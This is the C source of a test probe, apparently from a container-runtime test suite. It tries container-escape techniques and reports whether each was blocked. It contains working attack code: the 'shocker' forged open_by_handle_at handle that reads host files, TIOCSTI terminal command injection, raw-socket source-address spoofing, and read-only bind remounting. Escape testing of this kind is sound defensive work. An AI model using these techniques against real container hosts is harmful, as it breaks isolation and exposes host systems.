/*
 * probe: the attacks and checks tests/test_escape.py and tests/test_terminal.py run inside a container.
 * Built static (gcc -static -O2) by tests/probes.py at test time and shipped in the "probes" test image
 * as /probe (and as /probe-suid, a setuid-root copy).
 *
 *     probe <name> [args...]          (probe with no name lists the names)
 *
 * Protocol. Every attempted operation prints exactly one line on stdout:
 *
 *     ESCAPED: <what>                  an attack worked: the confinement did not hold
 *     BLOCKED: <what>: <errno text>    the operation was refused (or found nothing: "empty", "absent")
 *     ALLOWED: <what>                  a benign operation worked (what Docker's defaults allow)
 *     INFO: <key>=<value>              a fact for the test to compare (never a verdict)
 *
 * Exit status:
 *     0  every attempted operation was BLOCKED (a probe that only reports INFO exits 0 too)
 *     1  at least one operation worked (an ESCAPED or ALLOWED line)
 *     2  usage error, or the probe itself failed before it could try (an "ERROR: ..." line on stderr)
 *
 * Probes:
 *     status                        INFO lines: CapInh CapPrm CapEff CapBnd CapAmb Seccomp NoNewPrivs (as in
 *                                   /proc/self/status), uid euid gid egid, nofile=SOFT:HARD
 *     mount-tmpfs DIR, mount-proc DIR, mount-cgroup DIR (v1 -o freezer, then cgroup2): unmounted when it worked
 *     remount PATH [--write NAME]   MS_REMOUNT|MS_BIND without MS_RDONLY (how a :ro bind turns writable), then
 *                                   create PATH/NAME
 *     userns                        unshare(CLONE_NEWUSER|CLONE_NEWNS), then CLONE_NEWUSER alone
 *     sysctl-write PATH...          write back exactly the value just read
 *     open-write PATH...            open for writing, close without writing (/proc/sysrq-trigger)
 *     masked PATH...                a masked file reads empty (or does not open), a masked directory lists nothing
 *     mknod PATH b|c MAJOR MINOR    make the node (INFO: made), then open and read it: ESCAPED when it opens
 *     open-dev PATH...              open and read a node that is already there (one the image shipped)
 *     shocker FILE                  name_to_handle_at(FILE), then open_by_handle_at with a forged handle of
 *                                   inode 2 (an ext4 root) and with FILE's own handle
 *     keyring                       keyctl(KEYCTL_GET_KEYRING_ID, session keyring): ALLOWED, INFO session-keyring=N
 *     fds                           INFO fds=0,1,2 (the listing's own fd left out) and fdN=target
 *     spoof SRC|self DST PORT TEXT  one UDP datagram with that source address over a raw socket: ALLOWED when sent
 *                                   (whether it arrives is for the receiver to say)
 *     tiocsti MARKER                push "touch MARKER\n" into /dev/tty and fds 0-2: into the container's own pty
 *                                   ALLOWED, into any other terminal ESCAPED
 *     tty                           INFO fdN=tty path=/dev/pts/M own-devpts=yes|no, or fdN=not-a-tty
 *     chown PATH, bind-port PORT    what Docker's defaults allow: ALLOWED
 *
 * Nothing here changes the host when it is blocked; when it is not, every probe undoes what it did
 * (unmounts, unlinks) and writes back only values it read first (/proc/sys).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <termios.h>
#include <unistd.h>

static int worked; /* set by escaped() and allowed(): the exit status */

static void escaped(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void allowed(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void info(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static void line(const char *tag, const char *fmt, va_list ap, const char *err)
{
    printf("%s: ", tag);
    vprintf(fmt, ap);
    if (err)
        printf(": %s", err);
    printf("\n");
    fflush(stdout);
}

static void escaped(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    line("ESCAPED", fmt, ap, NULL);
    va_end(ap);
    worked = 1;
}

static void allowed(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    line("ALLOWED", fmt, ap, NULL);
    va_end(ap);
    worked = 1;
}

static void info(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    line("INFO", fmt, ap, NULL);
    va_end(ap);
}

/* BLOCKED: <what>: <reason>; reason is strerror(err) unless text is given */
static void blocked(int err, const char *text, const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    line("BLOCKED", fmt, ap, text ? text : strerror(err));
    va_end(ap);
}

static void die(const char *fmt, ...) __attribute__((noreturn, format(printf, 1, 2)));

static void die(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    fprintf(stderr, "ERROR: ");
    vfprintf(stderr, fmt, ap);
    fprintf(stderr, "\n");
    va_end(ap);
    exit(2);
}

/* ---- status: capability masks, seccomp, no_new_privs, ids, rlimits -------------------------------- */

static int cmd_status(int argc, char **argv)
{
    (void)argc, (void)argv;
    static const char *keys[] = {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "Seccomp", "NoNewPrivs"};
    char buf[512];
    FILE *f = fopen("/proc/self/status", "r");
    if (!f)
        die("open /proc/self/status: %s", strerror(errno));
    while (fgets(buf, sizeof buf, f)) {
        for (size_t i = 0; i < sizeof keys / sizeof *keys; i++) {
            size_t n = strlen(keys[i]);
            if (strncmp(buf, keys[i], n) == 0 && buf[n] == ':') {
                char *v = buf + n + 1;
                v += strspn(v, " \t");
                v[strcspn(v, "\n")] = 0;
                info("%s=%s", keys[i], v);
            }
        }
    }
    fclose(f);
    uid_t r, e, s;
    gid_t gr, ge, gs;
    getresuid(&r, &e, &s);
    getresgid(&gr, &ge, &gs);
    info("uid=%u", r);
    info("euid=%u", e);
    info("gid=%u", gr);
    info("egid=%u", ge);
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0)
        info("nofile=%llu:%llu", (unsigned long long)rl.rlim_cur, (unsigned long long)rl.rlim_max);
    return 0;
}

/* ---- mounts --------------------------------------------------------------------------------------- */

static void try_mount(const char *what, const char *src, const char *dir, const char *type, unsigned long flags,
                      const char *data)
{
    if (mount(src, dir, type, flags, data) == 0) {
        escaped("mounted %s on %s", what, dir);
        if (umount2(dir, MNT_DETACH) != 0)
            fprintf(stderr, "probe: could not unmount %s: %s\n", dir, strerror(errno));
    } else {
        blocked(errno, NULL, "mount %s on %s", what, dir);
    }
}

static int cmd_mount_tmpfs(int argc, char **argv)
{
    if (argc < 1)
        die("usage: mount-tmpfs DIR");
    try_mount("tmpfs", "tmpfs", argv[0], "tmpfs", 0, "size=1m");
    return 0;
}

static int cmd_mount_proc(int argc, char **argv)
{
    if (argc < 1)
        die("usage: mount-proc DIR");
    try_mount("proc", "proc", argv[0], "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
    return 0;
}

static int cmd_mount_cgroup(int argc, char **argv)
{
    if (argc < 1)
        die("usage: mount-cgroup DIR");
    try_mount("cgroup (v1, freezer)", "cgroup", argv[0], "cgroup", 0, "freezer");
    try_mount("cgroup2", "cgroup2", argv[0], "cgroup2", 0, NULL);
    return 0;
}

/* remount PATH [--write NAME]: clear the per-mount read-only flag (MS_REMOUNT|MS_BIND without MS_RDONLY,
 * how a :ro bind is made writable again), then optionally create PATH/NAME */
static int cmd_remount(int argc, char **argv)
{
    if (argc < 1)
        die("usage: remount PATH [--write NAME]");
    const char *path = argv[0];
    if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
        escaped("remounted %s read-write", path);
    else
        blocked(errno, NULL, "remount %s read-write", path);
    if (argc >= 3 && strcmp(argv[1], "--write") == 0) {
        char file[PATH_MAX];
        snprintf(file, sizeof file, "%s/%s", path, argv[2]);
        int fd = open(file, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
        if (fd >= 0) {
            ssize_t n = write(fd, "probe\n", 6);
            close(fd);
            unlink(file);
            escaped("created %s (%zd bytes written)", file, n);
        } else {
            blocked(errno, NULL, "create %s", file);
        }
    }
    return 0;
}

/* unshare a user namespace (where a root without CAP_SYS_ADMIN would get it back) and mount there */
static int cmd_userns(int argc, char **argv)
{
    (void)argc, (void)argv;
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) {
        escaped("unshare(CLONE_NEWUSER|CLONE_NEWNS)");
    } else {
        blocked(errno, NULL, "unshare(CLONE_NEWUSER|CLONE_NEWNS)");
        if (unshare(CLONE_NEWUSER) == 0)
            escaped("unshare(CLONE_NEWUSER)");
        else
            blocked(errno, NULL, "unshare(CLONE_NEWUSER)");
    }
    return 0;
}

/* ---- /proc/sys and other kernel files --------------------------------------------------------------- */

/* sysctl-write PATH...: read the current value, write exactly that back (never a new value) */
static int cmd_sysctl_write(int argc, char **argv)
{
    for (int i = 0; i < argc; i++) {
        char value[4096];
        int fd = open(argv[i], O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
            blocked(errno, NULL, "read %s", argv[i]);
            continue;
        }
        ssize_t n = read(fd, value, sizeof value);
        close(fd);
        if (n <= 0) {
            blocked(n < 0 ? errno : 0, n < 0 ? NULL : "empty", "read %s", argv[i]);
            continue;
        }
        fd = open(argv[i], O_WRONLY | O_CLOEXEC);
        if (fd < 0) {
            blocked(errno, NULL, "open %s for writing", argv[i]);
            continue;
        }
        ssize_t w = write(fd, value, (size_t)n);
        int err = errno;
        close(fd);
        if (w == n)
            escaped("wrote back the current value of %s", argv[i]);
        else
            blocked(w < 0 ? err : 0, w < 0 ? NULL : "short write", "write back %s", argv[i]);
    }
    return 0;
}

/* open-write PATH...: open for writing and close without writing (/proc/sysrq-trigger: any write acts) */
static int cmd_open_write(int argc, char **argv)
{
    for (int i = 0; i < argc; i++) {
        int fd = open(argv[i], O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            close(fd);
            escaped("opened %s for writing", argv[i]);
        } else {
            blocked(errno, NULL, "open %s for writing", argv[i]);
        }
    }
    return 0;
}

/* masked PATH...: a masked file reads empty (or cannot be opened), a masked directory lists nothing */
static int cmd_masked(int argc, char **argv)
{
    for (int i = 0; i < argc; i++) {
        const char *p = argv[i];
        struct stat st;
        if (stat(p, &st) != 0) {
            blocked(errno, errno == ENOENT ? "absent" : NULL, "read %s", p);
            continue;
        }
        if (S_ISDIR(st.st_mode)) {
            DIR *d = opendir(p);
            if (!d) {
                blocked(errno, NULL, "list %s", p);
                continue;
            }
            int count = 0;
            char first[256] = "";
            struct dirent *e;
            while ((e = readdir(d))) {
                if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
                    continue;
                if (!count++)
                    snprintf(first, sizeof first, "%s", e->d_name);
            }
            closedir(d);
            if (count)
                escaped("listed %d entries of %s (%s, ...)", count, p, first);
            else
                blocked(0, "empty", "list %s", p);
            continue;
        }
        int fd = open(p, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd < 0) {
            blocked(errno, NULL, "read %s", p);
            continue;
        }
        char buf[4096];
        ssize_t n = read(fd, buf, sizeof buf);
        int err = errno;
        close(fd);
        if (n > 0)
            escaped("read %zd bytes of %s", n, p);
        else
            blocked(n < 0 ? err : 0, n < 0 ? NULL : "empty", "read %s", p);
    }
    return 0;
}

/* ---- devices ---------------------------------------------------------------------------------------- */

static void open_device(const char *path)
{
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) {
        blocked(errno, NULL, "open %s", path);
        return;
    }
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf);
    int err = errno;
    close(fd);
    struct stat st;
    unsigned maj = 0, min = 0;
    if (stat(path, &st) == 0)
        maj = major(st.st_rdev), min = minor(st.st_rdev);
    if (n >= 0)
        escaped("opened %s (%u:%u) and read %zd bytes", path, maj, min, n);
    else
        escaped("opened %s (%u:%u); the read said: %s", path, maj, min, strerror(err));
}

/* mknod PATH b|c MAJOR MINOR: make the node (Docker allows that), then open and read it (it must not) */
static int cmd_mknod(int argc, char **argv)
{
    if (argc < 4 || (strcmp(argv[1], "b") != 0 && strcmp(argv[1], "c") != 0))
        die("usage: mknod PATH b|c MAJOR MINOR");
    const char *path = argv[0];
    mode_t kind = argv[1][0] == 'b' ? S_IFBLK : S_IFCHR;
    dev_t dev = makedev(atoi(argv[2]), atoi(argv[3]));
    unlink(path);
    if (mknod(path, kind | 0600, dev) != 0) {
        blocked(errno, NULL, "mknod %s %s %s:%s", path, argv[1], argv[2], argv[3]);
        return 0;
    }
    info("mknod %s %s %s:%s=made", path, argv[1], argv[2], argv[3]);
    open_device(path);
    unlink(path);
    return 0;
}

/* open-dev PATH...: open a device node that is already there (one the image shipped) */
static int cmd_open_dev(int argc, char **argv)
{
    for (int i = 0; i < argc; i++)
        open_device(argv[i]);
    return 0;
}

/* ---- shocker: open_by_handle_at with a forged handle ------------------------------------------------- */

struct probe_handle {
    struct file_handle fh;
    unsigned char bytes[MAX_HANDLE_SZ];
};

static void open_handle(int mount_fd, struct probe_handle *h, const char *what)
{
    int fd = open_by_handle_at(mount_fd, &h->fh, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        blocked(errno, NULL, "open_by_handle_at(%s)", what);
        return;
    }
    char names[512] = "";
    struct stat st;
    if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
        DIR *d = fdopendir(dup(fd));
        struct dirent *e;
        int shown = 0;
        while (d && (e = readdir(d)) && shown < 8) {
            if (e->d_name[0] == '.')
                continue;
            strncat(names, " ", sizeof names - strlen(names) - 1);
            strncat(names, e->d_name, sizeof names - strlen(names) - 1);
            shown++;
        }
        if (d)
            closedir(d);
    }
    close(fd);
    escaped("open_by_handle_at(%s) opened inode %llu%s%s", what, (unsigned long long)st.st_ino,
            names[0] ? ", a directory holding:" : "", names);
}

/* shocker FILE: FILE is a bind mount from the host (/etc/hostname); its handle names its filesystem, so a
 * forged handle (inode 2: an ext4 root) opens the host's files from inside the container */
static int cmd_shocker(int argc, char **argv)
{
    if (argc < 1)
        die("usage: shocker FILE");
    struct probe_handle real = {.fh.handle_bytes = MAX_HANDLE_SZ};
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, argv[0], &real.fh, &mount_id, 0) != 0) {
        blocked(errno, NULL, "name_to_handle_at(%s)", argv[0]);
        return 0;
    }
    info("handle_type=%d handle_bytes=%u", real.fh.handle_type, real.fh.handle_bytes);
    int mount_fd = open(argv[0], O_RDONLY | O_CLOEXEC);
    if (mount_fd < 0)
        die("open %s: %s", argv[0], strerror(errno));
    if (real.fh.handle_type == 1 && real.fh.handle_bytes >= 8) { /* FILEID_INO32_GEN: {u32 ino, u32 gen} */
        struct probe_handle forged = real;
        uint32_t ino = 2, gen = 0;
        memcpy(forged.fh.f_handle, &ino, 4);
        memcpy(forged.fh.f_handle + 4, &gen, 4);
        open_handle(mount_fd, &forged, "forged handle of inode 2");
    }
    open_handle(mount_fd, &real, "the file's own handle");
    close(mount_fd);
    return 0;
}

/* ---- keyring ------------------------------------------------------------------------------------------ */

static int cmd_keyring(int argc, char **argv)
{
    (void)argc, (void)argv;
    /* keyctl(KEYCTL_GET_KEYRING_ID = 0, KEY_SPEC_SESSION_KEYRING = -3, create = 0) */
    long serial = syscall(SYS_keyctl, 0, -3, 0);
    if (serial < 0) {
        blocked(errno, NULL, "keyctl(KEYCTL_GET_KEYRING_ID, session keyring)");
        return 0;
    }
    allowed("keyctl(KEYCTL_GET_KEYRING_ID, session keyring)");
    info("session-keyring=%ld", serial);
    return 0;
}

/* ---- file descriptors ----------------------------------------------------------------------------------- */

static int cmd_fds(int argc, char **argv)
{
    (void)argc, (void)argv;
    DIR *d = opendir("/proc/self/fd");
    if (!d)
        die("opendir /proc/self/fd: %s", strerror(errno));
    int self = dirfd(d);
    char list[4096] = "";
    struct dirent *e;
    int fds[1024], n = 0;
    while ((e = readdir(d)) && n < 1024) {
        if (e->d_name[0] == '.' || atoi(e->d_name) == self)
            continue;
        fds[n++] = atoi(e->d_name);
    }
    closedir(d);
    for (int i = 0; i < n; i++) {
        char num[16];
        snprintf(num, sizeof num, "%s%d", i ? "," : "", fds[i]);
        strncat(list, num, sizeof list - strlen(list) - 1);
    }
    info("fds=%s", list);
    for (int i = 0; i < n; i++) {
        char link[64], target[PATH_MAX];
        snprintf(link, sizeof link, "/proc/self/fd/%d", fds[i]);
        ssize_t len = readlink(link, target, sizeof target - 1);
        target[len > 0 ? len : 0] = 0;
        info("fd%d=%s", fds[i], target);
    }
    return 0;
}

/* ---- raw socket: a UDP packet with a forged source address ---------------------------------------------- */

static uint16_t checksum(const void *data, size_t len)
{
    const uint16_t *p = data;
    uint32_t sum = 0;
    for (; len > 1; len -= 2)
        sum += *p++;
    if (len)
        sum += *(const uint8_t *)p;
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

/* spoof SRC DST PORT PAYLOAD: SRC "self" is the container's own address (the route's source) */
static int cmd_spoof(int argc, char **argv)
{
    if (argc < 4)
        die("usage: spoof SRC|self DST PORT PAYLOAD");
    struct sockaddr_in dst = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2]))};
    if (inet_pton(AF_INET, argv[1], &dst.sin_addr) != 1)
        die("bad address %s", argv[1]);
    struct in_addr src;
    if (strcmp(argv[0], "self") == 0) {
        int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        struct sockaddr_in me;
        socklen_t len = sizeof me;
        if (u < 0 || connect(u, (struct sockaddr *)&dst, sizeof dst) != 0 ||
            getsockname(u, (struct sockaddr *)&me, &len) != 0)
            die("no route to %s: %s", argv[1], strerror(errno));
        close(u);
        src = me.sin_addr;
    } else if (inet_pton(AF_INET, argv[0], &src) != 1) {
        die("bad address %s", argv[0]);
    }
    char srctext[INET_ADDRSTRLEN];
    inet_ntop(AF_INET, &src, srctext, sizeof srctext);
    info("source=%s", srctext);

    int s = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW); /* IPPROTO_RAW implies IP_HDRINCL */
    if (s < 0) {
        blocked(errno, NULL, "raw socket");
        return 0;
    }
    size_t plen = strlen(argv[3]);
    unsigned char packet[1500];
    if (plen > sizeof packet - 28)
        die("payload too long");
    struct {
        uint8_t ver_ihl, tos;
        uint16_t len, id, frag;
        uint8_t ttl, proto;
        uint16_t sum;
        uint32_t saddr, daddr;
    } __attribute__((packed)) ip = {0x45, 0, htons((uint16_t)(28 + plen)), htons(0x5050), 0, 64, IPPROTO_UDP, 0,
                                    src.s_addr, dst.sin_addr.s_addr};
    ip.sum = checksum(&ip, sizeof ip);
    struct {
        uint16_t sport, dport, len, sum;
    } __attribute__((packed)) udp = {htons(40000), dst.sin_port, htons((uint16_t)(8 + plen)), 0};
    memcpy(packet, &ip, 20);
    memcpy(packet + 20, &udp, 8);
    memcpy(packet + 28, argv[3], plen);
    ssize_t n = sendto(s, packet, 28 + plen, 0, (struct sockaddr *)&dst, sizeof dst);
    if (n < 0)
        blocked(errno, NULL, "send from %s to %s:%s", srctext, argv[1], argv[2]);
    else
        allowed("sent %zd bytes from %s to %s:%s over a raw socket", n, srctext, argv[1], argv[2]);
    close(s);
    return 0;
}

/* ---- terminals --------------------------------------------------------------------------------------------- */

/* whether fd is a terminal of the devpts instance mounted on /dev/pts here (the container's own) */
static int own_pty(int fd)
{
    struct stat term, pts;
    return fstat(fd, &term) == 0 && stat("/dev/pts", &pts) == 0 && term.st_dev == pts.st_dev;
}

/* push text into fd with TIOCSTI; 1 when it went in, else a BLOCKED line and 0 */
static int pushed(int fd, const char *label, const char *text, char *name, size_t size)
{
    if (ttyname_r(fd, name, size) != 0)
        snprintf(name, size, "%s", isatty(fd) ? "a terminal with no name in this /dev" : "not a terminal");
    if (ioctl(fd, TIOCSTI, text) != 0) {
        blocked(errno, NULL, "TIOCSTI into %s (%s)", label, name);
        return 0;
    }
    for (const char *c = text + 1; *c; c++)
        ioctl(fd, TIOCSTI, c);
    return 1;
}

/* whether text is waiting in the input of the container's own pty (read back from a std fd that is one) */
static int landed_in_own_pty(const char *text)
{
    for (int fd = 0; fd < 3; fd++) {
        if (!isatty(fd) || !own_pty(fd))
            continue;
        int flags = fcntl(fd, F_GETFL);
        fcntl(fd, F_SETFL, flags | O_NONBLOCK);
        char buf[8192];
        ssize_t n = read(fd, buf, sizeof buf - 1);
        fcntl(fd, F_SETFL, flags);
        buf[n > 0 ? n : 0] = 0;
        return strstr(buf, text) != NULL;
    }
    return 0;
}

/* tiocsti MARKER: push "touch MARKER\n" into /dev/tty, then into fds 0, 1 and 2. A push into the container's
 * own pty is ALLOWED (only the container reads it); into any other terminal it ESCAPED. /dev/tty's inode is
 * not the terminal's, so whether it is the own pty is told by reading the text back from there. */
static int cmd_tiocsti(int argc, char **argv)
{
    if (argc < 1)
        die("usage: tiocsti MARKER");
    char text[PATH_MAX + 16], name[PATH_MAX];
    snprintf(text, sizeof text, "touch %s\n", argv[0]);
    int fd = open("/dev/tty", O_RDWR | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) {
        blocked(errno, NULL, "open /dev/tty");
    } else {
        if (pushed(fd, "/dev/tty", text, name, sizeof name)) {
            if (landed_in_own_pty(text))
                allowed("TIOCSTI into /dev/tty (the container's own pty)");
            else
                escaped("TIOCSTI into /dev/tty (a controlling terminal that is not the container's own pty)");
        }
        close(fd);
    }
    for (fd = 0; fd < 3; fd++) {
        char label[8];
        snprintf(label, sizeof label, "fd %d", fd);
        if (!pushed(fd, label, text, name, sizeof name))
            continue;
        if (own_pty(fd))
            allowed("TIOCSTI into %s (the container's own pty %s)", label, name);
        else
            escaped("TIOCSTI into %s (a terminal outside the container: %s)", label, name);
    }
    return 0;
}

/* tty: what fds 0-2 are */
static int cmd_tty(int argc, char **argv)
{
    (void)argc, (void)argv;
    for (int fd = 0; fd < 3; fd++) {
        char name[PATH_MAX];
        if (!isatty(fd)) {
            info("fd%d=not-a-tty", fd);
            continue;
        }
        if (ttyname_r(fd, name, sizeof name) != 0)
            snprintf(name, sizeof name, "?");
        info("fd%d=tty path=%s own-devpts=%s", fd, name, own_pty(fd) ? "yes" : "no");
    }
    return 0;
}

/* ---- what Docker's defaults still allow ----------------------------------------------------------------------- */

/* chown PATH: make a file and give it to 1000:1000 */
static int cmd_chown(int argc, char **argv)
{
    if (argc < 1)
        die("usage: chown PATH");
    int fd = open(argv[0], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0)
        die("create %s: %s", argv[0], strerror(errno));
    close(fd);
    struct stat st;
    if (chown(argv[0], 1000, 1000) == 0 && stat(argv[0], &st) == 0 && st.st_uid == 1000)
        allowed("chown %s to 1000:1000", argv[0]);
    else
        blocked(errno, NULL, "chown %s to 1000:1000", argv[0]);
    unlink(argv[0]);
    return 0;
}

/* bind-port PORT: listen on 0.0.0.0:PORT (TCP) */
static int cmd_bind_port(int argc, char **argv)
{
    if (argc < 1)
        die("usage: bind-port PORT");
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0)
        die("socket: %s", strerror(errno));
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[0]))};
    if (bind(s, (struct sockaddr *)&a, sizeof a) == 0 && listen(s, 1) == 0)
        allowed("bind and listen on 0.0.0.0:%s", argv[0]);
    else
        blocked(errno, NULL, "bind 0.0.0.0:%s", argv[0]);
    close(s);
    return 0;
}

/* ---- main ------------------------------------------------------------------------------------------------------ */

static const struct {
    const char *name;
    int (*run)(int, char **);
} commands[] = {
    {"status", cmd_status},         {"mount-tmpfs", cmd_mount_tmpfs},   {"mount-proc", cmd_mount_proc},
    {"mount-cgroup", cmd_mount_cgroup}, {"remount", cmd_remount},       {"userns", cmd_userns},
    {"sysctl-write", cmd_sysctl_write}, {"open-write", cmd_open_write}, {"masked", cmd_masked},
    {"mknod", cmd_mknod},           {"open-dev", cmd_open_dev},         {"shocker", cmd_shocker},
    {"keyring", cmd_keyring},       {"fds", cmd_fds},                   {"spoof", cmd_spoof},
    {"tiocsti", cmd_tiocsti},       {"tty", cmd_tty},                   {"chown", cmd_chown},
    {"bind-port", cmd_bind_port},
};

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 2) {
        for (size_t i = 0; i < sizeof commands / sizeof *commands; i++) {
            if (strcmp(argv[1], commands[i].name) == 0) {
                commands[i].run(argc - 2, argv + 2);
                return worked ? 1 : 0;
            }
        }
    }
    fprintf(stderr, "ERROR: usage: probe NAME [ARGS...]; names:");
    for (size_t i = 0; i < sizeof commands / sizeof *commands; i++)
        fprintf(stderr, " %s", commands[i].name);
    fprintf(stderr, "\n");
    return 2;
}
